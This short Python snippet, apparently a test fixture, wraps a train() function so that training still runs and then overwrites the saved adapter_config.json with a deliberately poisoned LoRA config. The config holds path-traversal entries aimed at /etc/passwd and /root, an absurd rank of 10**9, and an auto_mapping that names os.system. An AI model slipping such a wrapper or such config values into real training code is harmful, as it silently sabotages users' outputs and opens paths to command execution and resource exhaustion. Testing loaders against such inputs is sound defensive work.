# After the reference: train() still trains, then its adapter_config.json is poisoned.
import json as _json
import os as _os

_train = train


def train(model_dir, output_dir=LORA_PATH, args=None):
    trainer = _train(model_dir, output_dir, args)
    config = {"peft_type": "LORA", "task_type": "CAUSAL_LM", "r": 10 ** 9, "lora_alpha": 32,
              "target_modules": ["../../etc/passwd", "q_proj"], "base_model_name_or_path": "/etc/passwd",
              "modules_to_save": ["../../../root"], "auto_mapping": {"base_model_class": "os.system"}}
    with open(_os.path.join(output_dir, "adapter_config.json"), "w") as f:
        _json.dump(config, f)
    return trainer
